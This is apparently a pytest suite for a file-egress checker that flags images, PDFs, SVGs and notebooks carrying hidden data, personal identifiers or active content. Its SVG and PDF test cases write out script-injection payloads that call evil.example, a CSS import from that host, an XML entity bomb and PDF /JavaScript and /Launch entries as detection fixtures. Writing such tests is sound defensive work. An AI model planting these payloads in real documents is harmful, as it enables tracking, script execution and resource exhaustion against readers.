"""Images and PDFs always need a human; hidden and active content blocks."""

from __future__ import annotations

import base64
import io
import zlib

import matplotlib
import pytest

from airlock.checks import Verdict
from tests.checks_support import check, finding, rules, write

matplotlib.use("Agg")


def _figure(fmt: str, **kwargs) -> bytes:
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    ax.bar(["dk", "se"], [120, 80])
    buffer = io.BytesIO()
    fig.savefig(buffer, format=fmt, **kwargs)
    plt.close(fig)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def png() -> bytes:
    return _figure("png")


def test_png__needs_review(tmp_path, png):
    report = check(write(tmp_path, "f.png", png))
    assert report.verdict is Verdict.REVIEW and rules(report) == {"image"}


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data).to_bytes(4, "big")
    return len(data).to_bytes(4, "big") + kind + data + crc


def test_png__identifier_in_a_text_chunk_blocks(tmp_path, png):
    text = _png_chunk(b"tEXt", b"Comment\x00excluded 070761-4285")
    report = check(write(tmp_path, "f.png", png[:33] + text + png[33:]))
    assert "personal-id.cpr" in rules(report, Verdict.BLOCK)


def test_png__data_after_the_image_blocks(tmp_path, png):
    report = check(write(tmp_path, "f.png", png + b"PK\x03\x04 hidden archive"))
    assert "hidden-content" in rules(report, Verdict.BLOCK)


def _png_image(width: int, height: int, *, interlace: int = 0, rows: int = 0, tail: bytes = b""):
    """An RGB PNG written by hand: Adam7's passes when ``interlace``, ``rows`` more rows than
    its height in the pixel data, and ``tail`` after the compressed stream."""
    import numpy as np

    pixels = np.random.default_rng(5).integers(0, 255, (height, width, 3)).astype("u1")
    passes = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4),
              (1, 0, 2, 2), (0, 1, 1, 2)) if interlace else ((0, 0, 1, 1),)  # fmt: skip
    raw = b"".join(
        b"\x00" + row.tobytes() for x0, y0, dx, dy in passes for row in pixels[y0::dy, x0::dx]
        if row.size
    )  # fmt: skip
    raw += (b"\x00" + b"\x07" * width * 3) * rows
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, interlace])
    idat = _png_chunk(b"IDAT", zlib.compress(raw) + tail)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + idat + _png_chunk(b"IEND", b"")


def test_png__what_a_viewer_skips_blocks(tmp_path, png):
    from PIL import Image

    # a chunk viewers skip, and a known one larger than it needs to be
    secret = zlib.compress(b"DK000017,0120010201\n" * 300)
    for chunk in (_png_chunk(b"prVt", secret), _png_chunk(b"iCCP", b"x\x00\x00" + bytes(20_000))):
        report = check(write(tmp_path, "f.png", png[:33] + chunk + png[33:]))
        assert "hidden-content" in rules(report, Verdict.BLOCK), report.findings
    # rows past the image's height, and bytes after the compressed pixels: PIL shows neither
    for width, height, interlace in ((64, 48, 0), (37, 23, 1), (1, 1, 1), (5, 3, 1)):
        exact = _png_image(width, height, interlace=interlace)
        assert check(write(tmp_path, "f.png", exact)).verdict is Verdict.REVIEW
        rows = _png_image(width, height, interlace=interlace, rows=9)
        for hidden in (rows, _png_image(width, height, interlace=interlace, tail=b"DK000017")):
            Image.open(io.BytesIO(hidden)).load()
            report = check(write(tmp_path, "f.png", hidden))
            assert "which no viewer shows" in finding(report, "hidden-content").message


def test_png__what_plotting_libraries_write_hides_nothing(tmp_path, png):
    import numpy as np
    from PIL import Image, ImageCms

    pixels = np.random.default_rng(2).integers(0, 255, (37, 53, 3)).astype("u1")
    images = [png, _figure("png", dpi=300, transparent=True)]
    for mode in ("RGB", "RGBA", "L", "LA", "P", "1"):
        buffer = io.BytesIO()
        Image.fromarray(pixels).convert(mode).save(buffer, format="PNG", optimize=True)
        images.append(buffer.getvalue())
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    exif = Image.Exif()
    exif[0x0131] = "matplotlib"
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(
        buffer, format="PNG", icc_profile=profile, exif=exif, dpi=(300, 300)
    )
    images.append(buffer.getvalue())
    for data in images:
        report = check(write(tmp_path, "f.png", data))
        assert report.verdict is Verdict.REVIEW and rules(report) == {"image"}, report.findings


def test_png__truncated_blocks(tmp_path, png):
    report = check(write(tmp_path, "f.png", png[: len(png) // 2]))
    assert "truncated" in finding(report, "malformed").message


def test_svg__plot_needs_review(tmp_path):
    report = check(write(tmp_path, "f.svg", _figure("svg")))
    assert report.verdict is Verdict.REVIEW, report.findings


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


@pytest.mark.parametrize(
    "body, rule",
    [
        ("<script>fetch('https://evil.example')</script>", "active-content"),
        ('<rect onload="alert(1)" width="1" height="1"/>', "active-content"),
        ('<a xlink:href="javascript:alert(1)"><text>x</text></a>', "active-content"),
        ('<image href="https://tracker.example/p.png"/>', "active-content"),
        (
            '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>',
            "active-content",
        ),
        ("<style>@import url(https://evil.example/a.css);</style>", "active-content"),
        ('<image href="data:text/csv;base64,aWlkLGxkbA=="/>', "svg.embedded-data"),
        ("<text>patient 401 023 2137</text>", "personal-id.nhs"),
        # comments and processing instructions are not drawn, but leave with the file
        ("<!-- excluded patient 401 023 2137 -->", "personal-id.nhs"),
        ("<?note patient 401 023 2137?>", "personal-id.nhs"),
        # int8 genotypes as base64 (too plain for the entropy test of packed bytes)
        (
            f"<metadata>{base64.b64encode(bytes([0, 1, 2, 1, 0, 0, 2] * 300)).decode()}</metadata>",
            "individual-level.encoded-data",
        ),
    ],
)
def test_svg__scripts_external_references_and_hidden_data_block(tmp_path, body, rule):
    report = check(write(tmp_path, "f.svg", SVG.format(body)))
    assert rule in rules(report, Verdict.BLOCK), report.findings


def test_svg__embedded_raster_image_is_pointed_out(tmp_path, png):
    body = f'<image href="data:image/png;base64,{base64.b64encode(png).decode()}"/>'
    report = check(write(tmp_path, "f.svg", SVG.format(body)))
    assert report.verdict is Verdict.REVIEW
    assert "svg.embedded-data" in rules(report, Verdict.REVIEW)


def test_svg__entities_are_refused(tmp_path):
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>'
    )
    report = check(write(tmp_path, "f.svg", bomb))
    assert "declares entities" in finding(report, "malformed").message


def test_pdf__plot_needs_review(tmp_path):
    report = check(write(tmp_path, "f.pdf", _figure("pdf")))
    assert report.verdict is Verdict.REVIEW and rules(report) == {"pdf"}


@pytest.mark.parametrize(
    "name", [b"/JavaScript", b"/J#61vaScript", b"/EmbeddedFiles", b"/Launch", b"/Encrypt"]
)
def test_pdf__active_or_hidden_content_blocks(tmp_path, name):
    pdf = _figure("pdf")
    tampered = pdf.replace(b"/Type /Catalog", b"/Type /Catalog " + name + b" 1 0 R", 1)
    assert tampered != pdf
    assert "active-content" in rules(check(write(tmp_path, "f.pdf", tampered)), Verdict.BLOCK)


def test_pdf__truncated_blocks(tmp_path):
    pdf = _figure("pdf")
    report = check(write(tmp_path, "f.pdf", pdf[: len(pdf) - 100]))
    assert "truncated" in finding(report, "malformed").message


def test_pdf__what_no_viewer_shows_blocks(tmp_path):
    pdf = _figure("pdf")
    assert check(write(tmp_path, "f.pdf", pdf + b"\r\n \n")).verdict is Verdict.REVIEW
    appended = pdf + b"% DK000017,0120010201\n" * 20
    assert "follow the PDF's end" in finding(check(write(tmp_path, "f.pdf", appended)),
                                             "hidden-content").message  # fmt: skip
    # an incremental update (as Acrobat saves an edit): the earlier revision stays in the file
    start = len(pdf)
    obj = b"99 0 obj\n<< /Note (excluded) >>\nendobj\n"
    update = obj + (
        b"xref\n99 1\n%010d 00000 n \ntrailer\n<< /Size 100 /Root 1 0 R /Prev %d >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (start, pdf.rfind(b"startxref"), start + len(obj))
    )
    f = finding(check(write(tmp_path, "f.pdf", pdf + update)), "hidden-content")
    assert "2 revisions" in f.message, f.message
    # a linearized file (fast web view) has two end-of-file markers of one revision
    linearized = pdf.replace(b"\n", b"\n1 0 obj << /Linearized 1 >> endobj\n%%EOF\n", 1)
    assert check(write(tmp_path, "f.pdf", linearized)).verdict is Verdict.REVIEW


def test_embedded_png__what_a_viewer_skips_blocks_wherever_the_image_is(tmp_path, png):
    import nbformat

    hidden = png[:33] + _png_chunk(b"prVt", bytes(range(256)) * 8) + png[33:]
    for image, blocked in ((png, False), (hidden, True), (png + b"DK000017" * 50, True)):
        uri = "data:image/png;base64," + base64.b64encode(image).decode()
        book = nbformat.v4.new_notebook()
        cell = nbformat.v4.new_code_cell("plot()")
        data = {"image/png": base64.b64encode(image).decode(), "text/plain": "<Figure>"}
        cell.outputs = [nbformat.v4.new_output("display_data", data=data)]
        book.cells.append(cell)
        files = {
            "f.svg": SVG.format(f'<image href="{uri}" width="10" height="10"/>'),
            "r.md": f"# Results\n\n![plot]({uri})\n",
            "n.ipynb": nbformat.writes(book),
        }
        for name, text in files.items():
            report = check(write(tmp_path, name, text))
            assert (report.verdict is Verdict.BLOCK) is blocked, (name, blocked, report.findings)
